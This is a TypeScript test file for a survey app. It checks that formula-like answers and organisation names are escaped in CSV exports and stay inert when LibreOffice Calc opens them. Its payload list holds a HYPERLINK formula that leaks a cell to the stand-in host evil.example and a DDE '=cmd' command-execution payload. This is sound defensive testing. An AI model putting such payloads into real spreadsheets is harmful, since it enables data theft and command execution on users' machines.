/**
 * Formula neutralising, checked in a real spreadsheet: answers and organisation names that look like formulas are
 * exported as wide CSV, opened in LibreOffice Calc (headless) and saved again as CSV, ODS and XLSX. No cell may be
 * evaluated: the re-saved CSV keeps the exported text exactly, and the ODS and XLSX files hold no formula at all.
 * A control file with a bare `=1+1` shows that the same conversion does evaluate formulas it is given.
 *
 * Needs `soffice` (Debian package libreoffice-calc-nogui); without it the LibreOffice cases are skipped with the
 * reason, and the raw CSV checks still run.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../server/app.ts';
import { buildTestApp, fixturesDir } from '../helpers/build-test-app.ts';
import { inviteForTest } from '../helpers/invitations.ts';
import { type SignedIn, signIn } from '../helpers/staff.ts';
import { makeTempDir } from '../helpers/temp-dir.ts';

const formulaPayloads = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+SUM(1,1)',
  '-2+3',
  '@SUM(1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

function findOffice(): string | null {
  for (const name of ['soffice', 'libreoffice']) {
    const found = spawnSync('sh', ['-c', `command -v ${name}`], { encoding: 'utf8' });
    if (found.status === 0 && found.stdout.trim()) return found.stdout.trim();
  }
  return null;
}

const office = findOffice();
const officeMissing = office === null;
if (officeMissing) {
  console.warn(
    'spreadsheet-formulas: LibreOffice (soffice) is not installed; the LibreOffice cases are skipped. ' +
      'Install it with: apt-get install -y --no-install-recommends libreoffice-calc-nogui',
  );
}

const temp = makeTempDir('tinjau-formulas-');

/** Converts a file with LibreOffice headless into the given format, in its own profile folder; returns the path. */
function convert(file: string, format: string, outDir: string): string {
  const filter = format === 'csv' ? 'csv:Text - txt - csv (StarCalc):44,34,76,1' : format;
  execFileSync(
    office as string,
    [
      `-env:UserInstallation=file://${path.join(temp.dir, 'lo-profile')}`,
      '--headless',
      '--norestore',
      '--infilter=CSV:44,34,76,1',
      '--convert-to',
      filter,
      '--outdir',
      outDir,
      file,
    ],
    { stdio: 'pipe', timeout: 120_000 },
  );
  const extension = format.split(':')[0] as string;
  return path.join(outDir, `${path.basename(file, path.extname(file))}.${extension}`);
}

function unzipEntry(file: string, entry: string): string {
  return execFileSync('unzip', ['-p', file, entry], { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
}

function parseCsv(text: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
}

describe('formula-like answers in a real spreadsheet', () => {
  let app: App;
  let admin: SignedIn;
  let wideCsv: string;

  beforeAll(async () => {
    app = await buildTestApp({ surveysDir: path.join(fixturesDir, 'surveys') });
    admin = await signIn(app, 'admin');
    for (const payload of formulaPayloads) {
      // Carriage returns are refused in every input now (names and answers), so that case cannot reach an export;
      // the tab case goes in the organisation name, which allows tabs.
      const invitation = await inviteForTest(app, {
        organisationName: payload.includes('\r') ? `Ministry ${formulaPayloads.indexOf(payload)}` : payload,
      });
      const answer = /[\t\r]/.test(payload) ? `=2+2 ${payload.trim()}` : payload;
      const submit = await app.inject({
        method: 'POST',
        url: `/api/r/${invitation.token}/submit`,
        payload: {
          answers: {
            agency_name: answer,
            uses_social_media: 'yes',
            platforms: ['facebook', 'other'],
            'platforms-Comment': answer,
            instruments: { law: 'exists', plan: 'none' },
            accounts: [{ account_name: answer, account_platform: 'facebook' }],
            final_comments: answer,
          },
        },
      });
      expect(submit.statusCode, submit.body).toBe(200);
    }
    const response = await app.inject({
      method: 'GET',
      url: '/api/exports/pilot/wide',
      headers: admin.headers,
    });
    expect(response.statusCode).toBe(200);
    wideCsv = response.body;
  });
  afterAll(async () => {
    await app?.close();
    temp.cleanup();
  });

  it('neutralises every formula-like cell in the exported CSV itself', () => {
    const cells = parseCsv(wideCsv).flat();
    const formulaLike = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(formulaLike).toEqual([]);
    // Organisation names are trimmed when the invitation is made, so a leading tab or carriage return is gone.
    for (const payload of formulaPayloads) expect(cells).toContain(`'${payload.trim()}`);
  });

  it('neutralises formula-like organisation names in the links CSV of an import', async () => {
    const csv = `country,organisation\n${formulaPayloads
      .filter((payload) => !/[\t\r]/.test(payload))
      .map((payload) => `TH,"${payload.replaceAll('"', '""')}"`)
      .join('\n')}\n`;
    const response = await app.inject({
      method: 'POST',
      url: '/api/invitations/import',
      headers: admin.headers,
      payload: { survey: 'pilot', csv },
    });
    expect(response.statusCode, response.body).toBe(201);
    const cells = parseCsv(response.json().linksCsv as string).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  describe('opened in LibreOffice Calc', () => {
    let wideFile: string;
    beforeAll(() => {
      wideFile = path.join(temp.dir, 'wide.csv');
      writeFileSync(wideFile, wideCsv);
    });

    it.skipIf(officeMissing)(
      'evaluates a bare formula in a control file (so the checks below can see evaluation)',
      { timeout: 180_000 },
      () => {
        const control = path.join(temp.dir, 'control.csv');
        writeFileSync(control, 'label,value\nsum,=1+1\n');
        const resaved = readFileSync(convert(control, 'csv', path.join(temp.dir, 'control-out')), 'utf8');
        expect(parseCsv(resaved)[1]).toEqual(['sum', '2']);
        const content = unzipEntry(
          convert(control, 'ods', path.join(temp.dir, 'control-ods')),
          'content.xml',
        );
        expect(content).toContain('table:formula=');
      },
    );

    it.skipIf(officeMissing)(
      'keeps every exported cell as the same text when re-saved as CSV',
      { timeout: 180_000 },
      () => {
        const resaved = readFileSync(convert(wideFile, 'csv', path.join(temp.dir, 'csv-out')), 'utf8');
        const original = parseCsv(wideCsv);
        const after = parseCsv(resaved);
        expect(after.length).toBe(original.length);
        const changed: string[] = [];
        original.forEach((row, rowIndex) => {
          row.forEach((cell, columnIndex) => {
            if (!/^'/.test(cell)) return;
            const now = after[rowIndex]?.[columnIndex];
            if (now !== cell)
              changed.push(
                `row ${rowIndex + 1}, column ${columnIndex + 1}: ${JSON.stringify(cell)} → ${JSON.stringify(now)}`,
              );
          });
        });
        expect(changed).toEqual([]);
      },
    );

    it.skipIf(officeMissing)('holds no formula when saved as ODS', { timeout: 180_000 }, () => {
      const content = unzipEntry(convert(wideFile, 'ods', path.join(temp.dir, 'ods-out')), 'content.xml');
      expect(content).toContain('HYPERLINK');
      expect(content).not.toContain('table:formula');
    });

    it.skipIf(officeMissing)('holds no formula when saved as XLSX', { timeout: 180_000 }, () => {
      const sheet = unzipEntry(
        convert(wideFile, 'xlsx', path.join(temp.dir, 'xlsx-out')),
        'xl/worksheets/sheet1.xml',
      );
      expect(sheet).not.toMatch(/<f[\s>]/);
      const strings = unzipEntry(path.join(temp.dir, 'xlsx-out', 'wide.xlsx'), 'xl/sharedStrings.xml');
      expect(strings).toContain('HYPERLINK');
    });
  });
});
